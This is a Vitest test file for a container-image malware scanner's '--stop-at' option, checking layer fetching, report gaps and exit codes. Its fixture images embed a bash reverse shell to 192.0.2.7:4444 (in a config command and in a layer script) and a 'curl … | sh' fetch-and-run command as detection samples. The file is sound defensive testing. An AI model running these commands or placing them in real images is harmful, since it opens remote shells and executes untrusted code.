import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ImageReport, MultiReport } from '../reports/report.ts';
import { buildImage } from '../testing/image-builder.ts';
import { tidewaiter } from '../testing/interop/cli.ts';
import { startRegistry, type TestRegistry } from '../testing/registry/start-registry.ts';

const shell = { '/bin/sh': { content: '\u007fELF stand-in', mode: 0o755 } };
/** The config alone proves it. */
const bad = buildImage({
  layers: [shell, { '/readme': 'hello\n' }],
  cmd: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'],
});
/** Only its layer does. */
const deep = buildImage({
  layers: [shell, { '/run.sh': { content: '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n', mode: 0o755 } }],
  cmd: ['/run.sh'],
});
/** Its config is suspicious. */
const odd = buildImage({ layers: [shell], cmd: ['/bin/sh', '-c', 'curl -s https://get.example/setup.sh | sh'] });

let registry: TestRegistry;
beforeAll(async () => {
  registry = await startRegistry();
  registry.put('team/bad', '1', bad);
  registry.put('team/deep', '1', deep);
  registry.put('team/odd', '1', odd);
});
afterAll(() => registry.close());

const at = (name: string): string => `${registry.host}/team/${name}:1`;
const layers = new Set(
  [...bad.layers, ...deep.layers, ...odd.layers].map(({ descriptor }) => descriptor.digest as string),
);

/** Runs the command; `layersAsked` counts what was asked for of layers meanwhile. */
async function run(...args: string[]) {
  const since = registry.requests.length;
  const ran = await tidewaiter(['scan', ...args]);
  const asked = registry.requests.slice(since);
  return {
    ...ran,
    asked: asked.length,
    layersAsked: asked.filter(({ url }) => layers.has(url.split('/').at(-1) ?? '')).length,
  };
}

describe('--stop-at', () => {
  test('ends where the config is enough: no layer is asked for, and each is told as not looked at', async () => {
    const { status, stdout, layersAsked, stderr } = await run('--stop-at', 'malicious', '--format', 'json', at('bad'));
    const report = ImageReport.parse(JSON.parse(stdout));
    expect({ status, layersAsked, verdict: report.verdict, complete: report.complete }).toEqual({
      status: 1,
      layersAsked: 0,
      verdict: 'malicious',
      complete: false,
    });
    expect(report.gaps).toEqual(
      bad.layers.map(({ descriptor }, layer) => ({
        reason: 'stopped',
        layer,
        detail: `Stopped at malicious: layer ${layer + 1} was not looked at (${descriptor.digest}).`,
      })),
    );
    expect(stderr).toMatch(/from its config:[\s\S]*malicious {2}/);
  });

  test('as text says so, and what was left out', async () => {
    const { status, stdout } = await run('--stop-at', 'malicious', at('bad'));
    expect({ status, stdout }).toEqual({
      status: 1,
      stdout: expect.stringMatching(/MALICIOUS[\s\S]*Stopped at malicious: layer 2 was not looked at/),
    });
  });

  test('reads all layers of an image whose config does not prove it', async () => {
    const { status, layersAsked, stdout } = await run('--stop-at', 'malicious', '--format', 'json', at('deep'));
    expect({ status, layersAsked }).toEqual({ status: 1, layersAsked: 2 });
    expect(ImageReport.parse(JSON.parse(stdout)).complete).toBe(true);
  });

  test('is for each image of a run by itself', async () => {
    const { status, layersAsked, stdout } = await run(
      '--stop-at',
      'suspicious',
      '--format',
      'json',
      at('bad'),
      at('deep'),
    );
    const { images } = MultiReport.parse(JSON.parse(stdout));
    expect({ status, layersAsked }).toEqual({ status: 1, layersAsked: 2 });
    expect(images.map(({ verdict, complete }) => ({ verdict, complete }))).toEqual([
      { verdict: 'malicious', complete: false },
      { verdict: 'malicious', complete: true },
    ]);
  });

  test.each([
    [[], 4],
    [['--fail-on', 'suspicious'], 1],
    [['--allow-incomplete'], 0],
  ])('at suspicious is not clear, since nothing else was looked at: %j exits %i', async (flags, expected) => {
    const { status, stdout, layersAsked } = await run(
      '--stop-at',
      'suspicious',
      '--format',
      'json',
      ...flags,
      at('odd'),
    );
    const report = ImageReport.parse(JSON.parse(stdout));
    expect(report.findings.map(({ severity }) => severity)).toContain('suspicious');
    expect({ status, verdict: report.verdict, layersAsked }).toEqual({
      status: expected,
      verdict: 'incomplete',
      layersAsked: 0,
    });
  });

  test('at malicious goes on where the config is only suspicious', async () => {
    expect(await run('--stop-at', 'malicious', '--quiet', at('odd'))).toMatchObject({ status: 0, layersAsked: 1 });
  });

  test('left out, the finding is on screen before the first byte of a layer all the same', async () => {
    const { stderr, layersAsked, stdout } = await run('--format', 'json', at('bad'));
    expect(layersAsked).toBe(2);
    expect(stderr.search(/malicious {2}/)).toBeGreaterThan(0);
    expect(stderr.search(/malicious {2}/)).toBeLessThan(stderr.search(/layer \d\/2 inspected/));
    expect(() => JSON.parse(stdout)).not.toThrow();
  });
});
